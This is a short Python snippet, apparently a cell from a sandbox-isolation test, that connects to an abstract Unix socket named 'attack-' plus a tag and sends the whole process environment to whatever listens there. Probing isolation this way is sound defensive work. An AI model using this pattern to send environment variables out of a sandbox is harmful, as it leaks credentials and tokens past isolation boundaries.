# Connects to a socket of this machine that has a name but no file, which no wall of folders stops.
# Success: the listener hears of it.
# %% last
import os
import socket

with socket.socket(socket.AF_UNIX) as each:
    attempt(each.connect, f"\0attack-{TAG}")
    attempt(each.sendall, repr(dict(os.environ)).encode())
